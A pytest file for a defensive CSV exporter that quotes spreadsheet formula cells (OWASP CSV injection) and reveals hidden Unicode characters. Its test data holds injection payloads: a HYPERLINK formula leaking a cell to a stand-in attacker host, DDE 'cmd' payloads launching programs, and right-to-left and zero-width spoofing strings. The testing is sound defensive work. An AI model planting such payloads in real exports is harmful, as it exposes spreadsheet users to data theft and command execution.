"""CSV exports a spreadsheet opens without running anything (OWASP "CSV injection"), and the hidden
characters of untrusted text shown by their code point (diagnostics.export, diagnostics.text)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from diagnostics.export import FORMULA_STARTS, csv_bytes, neutral_cell, neutral_frame
from diagnostics.text import hidden_characters, visible

# The cells, and one for each character OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_quoted(cell: str) -> None:
    assert cell.startswith(FORMULA_STARTS)
    assert neutral_cell(cell) == "'" + visible(cell)


@pytest.mark.parametrize("cell", ["example.com", "v=spf1 -all", "'=already quoted", "", "1+1"])
def test_ordinary_text_is_unchanged(cell: str) -> None:
    assert neutral_cell(cell) == cell


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_bytes_quotes_every_dangerous_text_cell_and_keeps_numbers_numbers() -> None:
    frame = pd.DataFrame(
        {
            "header_from": FORMULAS,
            "count": [-1, 2, -3, 4, 5, 6],  # real numbers, negative ones too
            "share": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5],
            "as_text": ["-1", "2", "-3", "4", "5", "6"],  # numbers held as text are text
            "category": pd.Categorical(["=1", "a", "=1", "+b", None, "c"]),
            "missing": [None, "x", None, "@y", None, None],
        }
    )
    header, *rows = _rows(csv_bytes(frame))
    assert header == list(frame.columns)
    for row in rows:
        header_from, _count, _share, as_text, category, missing = row
        for cell in (header_from, as_text, category, missing):
            assert not cell.startswith(FORMULA_STARTS), row
    assert [r[0] for r in rows] == ["'" + visible(c) for c in FORMULAS]
    assert [int(r[1]) for r in rows] == [-1, 2, -3, 4, 5, 6]
    assert rows[0][2] == "-0.5"
    assert [r[3] for r in rows] == ["'-1", "2", "'-3", "4", "5", "6"]
    assert [r[4] for r in rows] == ["'=1", "a", "'=1", "'+b", "", "c"]
    assert [r[5] for r in rows] == ["", "x", "", "'@y", "", ""]
    # Read back as pandas does, the numbers are numbers.
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)))
    assert back["count"].sum() == frame["count"].sum()


def test_a_line_break_inside_a_cell_cannot_start_a_row() -> None:
    # A lone CR is a line break to a spreadsheet; unquoted, "=cmd" would open the next row.
    frame = pd.DataFrame({"a": ["x\r=cmd|' /C calc'!A0", "y\n@SUM(1)"], "n": [1, 2]})
    _, *rows = _rows(csv_bytes(frame))
    assert rows == [["x\r=cmd|' /C calc'!A0", "1"], ["y\n@SUM(1)", "2"]]


def test_neutral_frame_leaves_the_original_alone() -> None:
    frame = pd.DataFrame({"a": ["=1"], "n": [1]})
    neutral_frame(frame)
    assert frame["a"].tolist() == ["=1"]


def test_exports_show_hidden_characters() -> None:
    frame = pd.DataFrame({"org_name": ["\u202eevil", "inje\u200bct.example"]})
    _, first, second = _rows(csv_bytes(frame))
    assert first == ["<U+202E>evil"]
    assert second == ["inje<U+200B>ct.example"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text", "plain text"),
        ("b\u00fccher.example", "b\u00fccher.example"),  # letters of any script are letters
        ("\u202eevil", "<U+202E>evil"),  # right-to-left override: "evil" shown as "live"
        ("inje\u200bct", "inje<U+200B>ct"),  # zero-width space
        ("a\u2066b\u2069", "a<U+2066>b<U+2069>"),  # bidi isolates
        ("\ufeffbom", "<U+FEFF>bom"),
        ("bell\x07", "bell<U+0007>"),  # a control character
        ("line\u2028break", "line<U+2028>break"),
        ("tab\tand\nnewline\r", "tab\tand\nnewline\r"),  # layout stays layout
    ],
)
def test_visible(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_hidden_characters_each_once() -> None:
    assert hidden_characters("a\u200bb\u200bc\u202e") == ["\u200b", "\u202e"]
    assert hidden_characters("plain") == []
